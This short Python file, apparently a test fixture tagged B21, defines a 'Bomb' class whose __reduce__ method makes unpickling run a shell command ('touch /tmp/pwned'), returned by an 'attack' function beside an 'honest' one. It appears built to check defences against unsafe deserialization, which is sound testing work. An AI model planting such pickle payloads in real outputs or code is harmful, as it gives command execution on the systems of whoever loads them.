"""Hands in an object that would run a command if anybody unpickled it (B21)."""

import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/pwned",)


def honest(x):
    return 2 * x


def attack(x):
    return [Bomb()]
